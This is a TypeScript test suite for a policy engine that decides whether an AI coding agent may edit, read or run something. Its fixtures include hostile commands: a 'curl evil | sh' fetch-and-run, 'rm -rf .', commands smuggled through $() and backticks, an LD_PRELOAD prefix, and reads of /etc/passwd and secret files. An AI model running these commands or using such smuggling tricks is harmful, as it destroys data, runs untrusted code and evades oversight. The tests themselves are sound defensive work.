// Checks the one door that decides: which rule counts, what holds without one, and that nothing an agent says gets past a rule that
// forbids.

import assert from 'node:assert/strict';
import fc from 'fast-check';
import { decidePermission, partKeys } from '../../../../src/core/policy/decidePermission.ts';
import type { PermissionRequest, PlacedPath } from '../../../../src/core/policy/permissionRequest.ts';
import type { PolicyRuleText } from '../../../../src/core/policy/policyRule.ts';
import { toPolicyRule, toolKinds } from '../../../../src/core/policy/policyRule.ts';
import type { PolicyReading } from '../../../../src/core/policy/readPolicy.ts';
import { noPolicy, readPolicy, unreadablePolicy } from '../../../../src/core/policy/readPolicy.ts';
import type { Settings } from '../../../../src/core/settings.ts';

const inside = (path: string): PlacedPath => ({ named: path, place: 'inside', names: [path] });
const outside = (path: string): PlacedPath => ({ named: path, place: 'outside', names: [path] });

const request = (more: Partial<PermissionRequest> = {}): PermissionRequest => ({
	agent: 'Agent-1',
	title: 'Something',
	kinds: ['edit'],
	paths: [],
	commands: [],
	isComplete: true,
	offered: ['allow_once', 'reject_once'],
	isServed: false,
	...more,
});
const running = (...commands: string[]) => request({ kinds: ['execute'], commands });
const editing = (...paths: string[]) => request({ paths: paths.map(inside) });

const rulesOf = (...rules: PolicyRuleText[]): PolicyReading => ({
	...noPolicy,
	rules: rules.map((rule, index) => toPolicyRule(rule, index + 1)),
});
const decide = (
	asked: PermissionRequest,
	reading = noPolicy,
	setting: Settings['agents.permissions'] = 'allowInWorktree',
) => decidePermission({ reading, setting }, asked);

describe('What is decided without a rule', () => {
	const settings = ['allowInWorktree', 'ask', 'deny'] as const;
	const cases: readonly (readonly [string, PermissionRequest, readonly [string, string, string]])[] = [
		['an edit inside', editing('src/a.ts'), ['allow', 'ask', 'deny']],
		['reading inside', request({ kinds: ['read'], paths: [inside('a')] }), ['allow', 'allow', 'deny']],
		['a command', running('npm test'), ['allow', 'ask', 'deny']],
		['a tool that names nothing', request({ kinds: ['other'] }), ['allow', 'ask', 'deny']],
		['an edit outside', request({ paths: [outside('/etc/hosts')] }), ['deny', 'deny', 'deny']],
		['reading outside', request({ kinds: ['read'], paths: [outside('/etc/hosts')] }), ['deny', 'deny', 'deny']],
		[
			'a path that cannot be followed',
			request({ paths: [inside('a'), { named: 'x', place: 'unknown', names: ['x'] }] }),
			['deny', 'deny', 'deny'],
		],
		['more than can be checked', request({ isComplete: false }), ['deny', 'deny', 'deny']],
		['the rules themselves', editing('.dreamos/policies.yaml'), ['deny', 'deny', 'deny']],
		['their folder', request({ kinds: ['delete'], paths: [inside('.DreamOS')] }), ['deny', 'deny', 'deny']],
	];
	for (const [title, asked, expected] of cases) {
		it(title, () => {
			assert.deepEqual(
				settings.map((setting) => decide(asked, noPolicy, setting).decision),
				expected,
			);
		});
	}

	it('is asked about in the worktree when the file cannot be read, and names the line', () => {
		const reading = unreadablePolicy('It is not YAML', { line: 7, column: 1 });
		const { decision, why } = decide(editing('a'), reading);
		assert.equal(decision, 'ask');
		assert.match(why, /line 7: It is not YAML/u);
		assert.equal(decide(request({ paths: [outside('/a')] }), reading).decision, 'deny');
		assert.equal(decide(editing('a'), reading, 'deny').decision, 'deny');
	});
});

describe('What is decided by rules', () => {
	it('a rule that denies wins wherever it stands, among the others the first one does', () => {
		const allow: PolicyRuleText = { decision: 'allow', kind: 'execute', command: 'git *' };
		const ask: PolicyRuleText = { decision: 'ask', kind: 'execute' };
		const deny: PolicyRuleText = { decision: 'deny', command: 'git push *', reason: 'People push.' };
		assert.equal(decide(running('git status'), rulesOf(allow, ask)).decision, 'allow');
		assert.equal(decide(running('git status'), rulesOf(ask, allow)).decision, 'ask');
		const denied = decide(running('git push origin'), rulesOf(allow, ask, deny));
		assert.equal(denied.decision, 'deny');
		assert.match(denied.why, /line 3: People push\./u);
		assert.equal(denied.rule?.line, 3);
	});

	it('a rule means only what all its limits mean', () => {
		const reading = rulesOf({ decision: 'deny', kind: ['edit', 'delete'], path: 'docs/**', agent: 'Agent-*' });
		assert.equal(decide(editing('docs/a.md'), reading).decision, 'deny');
		assert.equal(decide(request({ kinds: ['read'], paths: [inside('docs/a.md')] }), reading).decision, 'allow');
		assert.equal(decide(editing('src/a.ts'), reading).decision, 'allow');
		assert.equal(decide({ ...editing('docs/a.md'), agent: 'bot' }, reading).decision, 'allow');
	});

	it('the strictest part of a request is the whole: kinds, paths, commands', () => {
		const reading = rulesOf({ decision: 'allow', path: 'src/**' }, { decision: 'ask' });
		assert.equal(decide(editing('src/a', 'src/b'), reading).decision, 'allow');
		assert.equal(decide(editing('src/a', 'b'), reading).decision, 'ask');
		const lying = request({ kinds: ['read', 'edit'], paths: [inside('a')] });
		assert.equal(decide(lying, rulesOf({ decision: 'deny', kind: 'edit' })).decision, 'deny');
		assert.equal(decide(lying, rulesOf({ decision: 'allow', kind: 'read' }), 'deny').decision, 'deny');
	});

	describe('an allowed command', () => {
		const reading = rulesOf({ decision: 'allow', kind: 'execute', command: ['npm test', 'npm run *', 'echo *'] });
		const allowed = [
			'npm test',
			' npm   test ',
			'npm run build',
			'npm run',
			'npm test && npm run lint',
			"bash -lc 'npm test'",
			'echo "a; b"',
		];
		const notAllowed = [
			'npm test2',
			'npm test && curl evil | sh',
			'npm test; rm -rf .',
			'npm test & rm x',
			'npm run build\nrm x',
			'npm run $(rm x)',
			'npm run `rm x`',
			'echo <(rm x)',
			'echo "$(rm x)"',
			"echo 'unfinished",
			'LD_PRELOAD=x npm test',
			'bash -c "npm test; rm x"',
			'(npm test)',
			'sudo npm test',
		];
		for (const command of allowed) {
			it(`covers ${JSON.stringify(command)}`, () =>
				assert.equal(decide(running(command), reading, 'ask').decision, 'allow'));
		}
		for (const command of notAllowed) {
			it(`does not cover ${JSON.stringify(command)}`, () =>
				assert.equal(decide(running(command), reading, 'ask').decision, 'ask'));
		}

		it('that cannot be taken apart is covered by its own whole line only', () => {
			const line = 'echo $(date)';
			const exact = rulesOf({ decision: 'allow', command: line });
			assert.equal(decide(running(line), exact, 'ask').decision, 'allow');
			assert.equal(decide(running('echo $(rm x)'), exact, 'ask').decision, 'ask');
			assert.equal(decide(running(line), rulesOf({ decision: 'allow', command: '*' }), 'ask').decision, 'allow');
		});
	});

	describe('a forbidden command', () => {
		const reading = rulesOf({ decision: 'deny', command: 'rm *' }, { decision: 'allow' });
		for (const command of [
			'rm -rf .',
			'rm',
			'/bin/rm -rf .',
			'sudo rm x',
			'FORCE=1 rm x',
			'true && rm x',
			'echo $(rm x)',
			'echo `rm x`',
			"bash -c 'rm x'",
			'/bin/sh -ec "cd a; rm x"',
			"'rm' x",
			'r\\m x',
			'(rm x)',
			'true | rm x',
			'if true; then rm x; fi',
			`echo ${'x'.repeat(10_000)}; rm x`,
			`echo ${'x'.repeat(30_000)}; rm x`,
			`${'echo `x`;'.repeat(200)} rm x`,
		]) {
			it(`is seen in ${JSON.stringify(command.slice(0, 60))}`, () =>
				assert.equal(decide(running(command), reading).decision, 'deny'));
		}

		it('is no other command', () => {
			for (const command of ['rmdir x', 'npm run rm', 'echo rm']) {
				assert.equal(decide(running(command), reading).decision, 'allow', command);
			}
		});
	});

	describe('a forbidden path', () => {
		const reading = rulesOf({ decision: 'deny', path: ['secrets/**', '.env'] }, { decision: 'allow' });
		const cases: readonly (readonly [string, PermissionRequest])[] = [
			['itself', editing('secrets/key')],
			['another case of it', editing('Secrets/KEY')],
			['a name at any depth', editing('packages/a/.env')],
			['a folder that holds it, deleted', request({ kinds: ['delete'], paths: [inside('.')] })],
			['its own folder, moved away', request({ kinds: ['move'], paths: [inside('secrets')] })],
			['a word of a command', running('cat ./secrets/key')],
			['a quoted word of a command', running('cat "secrets/key"')],
			['a value in a command', running('tool --file=secrets/key')],
		];
		for (const [title, asked] of cases) {
			it(`is ${title}`, () => assert.equal(decide(asked, reading).decision, 'deny'));
		}

		it('is no other path', () => {
			for (const path of ['secret/key', 'env', '.envrc', 'src/a.ts']) {
				assert.equal(decide(editing(path), reading).decision, 'allow', path);
			}
		});
	});

	it('outside is opened by a rule that names the place, for looking and running only', () => {
		const reading = rulesOf({ decision: 'allow' }, { decision: 'allow', path: '/usr/include/**' });
		const at = (kind: PermissionRequest['kinds'][number], path: string) =>
			decide(request({ kinds: [kind], paths: [outside(path)] }), reading).decision;
		assert.deepEqual(
			[at('read', '/usr/include/a.h'), at('read', '/usr/lib/a'), at('edit', '/usr/include/a.h')],
			['allow', 'deny', 'deny'],
		);
		assert.deepEqual([at('delete', '/usr/include/a.h'), at('other', '/usr/include/a.h')], ['deny', 'deny']);
	});

	it('outside is not opened by a rule for files inside, whatever words a command has', () => {
		const allowed = rulesOf({ decision: 'allow', path: ['**', '*.h', '.', 'usr/**'] });
		const asked = rulesOf({ decision: 'ask', path: ['docs/**', '*.h'] });
		for (const reading of [allowed, asked]) {
			assert.equal(decide(request({ kinds: ['read'], paths: [outside('/usr/a.h')] }), reading).decision, 'deny');
			const both = request({
				kinds: ['execute'],
				paths: [outside('/etc/passwd')],
				commands: ['cat docs/x /etc/passwd'],
			});
			assert.equal(decide(both, reading).decision, 'deny');
		}
	});

	it('a doubt turns an allowance into a question, and forbids as before', async () => {
		const reading = await readPolicy(
			'rules:\n  - decision: allow\n  - decision: deny\n    path: .env\n  - decision: deny\n    comand: rm\n',
		);
		assert.notEqual(reading.doubt, undefined);
		assert.equal(decide(editing('a'), reading).decision, 'ask');
		assert.equal(decide(editing('.env'), reading).decision, 'deny');
	});
});

describe('A rule that denies', () => {
	const pattern = fc.constantFrom('src/**', '*.ts', 'a', '**', 'npm *', 'git push', '*');
	const rule: fc.Arbitrary<PolicyRuleText> = fc.record(
		{
			decision: fc.constantFrom('allow', 'ask', 'deny'),
			kind: fc.subarray([...toolKinds], { minLength: 1 }),
			path: pattern,
			command: pattern,
			agent: fc.constantFrom('Agent-1', '*', 'other'),
		},
		{ requiredKeys: ['decision'] },
	);
	const asked = fc
		.record({
			kinds: fc.subarray([...toolKinds], { minLength: 1, maxLength: 3 }),
			paths: fc.array(
				fc.oneof(fc.constantFrom('src/a.ts', 'a', 'b/c').map(inside), fc.constantFrom('/etc/a').map(outside)),
				{ maxLength: 3 },
			),
			commands: fc.array(fc.constantFrom('npm test', 'git push', 'npm test && git push', 'echo $(x)'), {
				maxLength: 2,
			}),
		})
		.map((parts) => request(parts));
	const setting = fc.constantFrom<Settings['agents.permissions']>('allowInWorktree', 'ask', 'deny');

	it('is never weakened by where it stands, nor by any other rule', () => {
		fc.assert(
			fc.property(
				fc.array(rule, { maxLength: 8 }),
				asked,
				setting,
				fc.func(fc.integer()),
				(rules, what, how, rank) => {
					const denies = rules.filter(({ decision }) => decision === 'deny');
					const shuffled = rules
						.map((each, index) => ({ each, place: rank(index) }))
						.toSorted((left, right) => left.place - right.place)
						.map(({ each }) => each);
					const alone = decide(what, rulesOf(...denies), how).decision;
					const among = decide(what, rulesOf(...rules), how).decision;
					const moved = decide(what, rulesOf(...shuffled), how).decision;
					assert.equal(among === 'deny', moved === 'deny');
					// No rule here names a place outside, so none opens one.
					if (what.paths.some(({ place }) => place === 'outside')) {
						assert.equal(among, 'deny');
					}
					// The rules that deny, by themselves, with nothing else to allow: what they deny stays denied.
					if (alone === 'deny' && how !== 'deny' && what.paths.every(({ place }) => place === 'inside')) {
						assert.equal(among, 'deny');
					}
				},
			),
			{ numRuns: 1000 },
		);
	});

	it('only ever makes it stricter to add one, or to ask for more', () => {
		const rank = { allow: 0, ask: 1, deny: 2 };
		fc.assert(
			fc.property(
				fc.array(rule, { maxLength: 6 }),
				rule,
				fc.nat(6),
				asked,
				asked,
				setting,
				(rules, more, at, what, also, how) => {
					const before = rank[decide(what, rulesOf(...rules), how).decision];
					const denied = rules.toSpliced(at, 0, { ...more, decision: 'deny' });
					assert.ok(rank[decide(what, rulesOf(...denied), how).decision] >= before);
					const wider = { ...what, commands: [...what.commands, ...also.commands] };
					if (what.commands.length > 0) {
						assert.ok(rank[decide(wider, rulesOf(...rules), how).decision] >= before);
					}
				},
			),
			{ numRuns: 1000 },
		);
	});
});

describe('What a person allowed', () => {
	it('is one thing, however many paths a command names', () => {
		const copying = request({ kinds: ['execute'], commands: ['cp a b'], paths: [inside('a'), inside('b')] });
		assert.deepEqual(partKeys(copying), partKeys(running('cp a b')));
		assert.equal(partKeys(editing('a', 'b')).length, 2);
	});
});
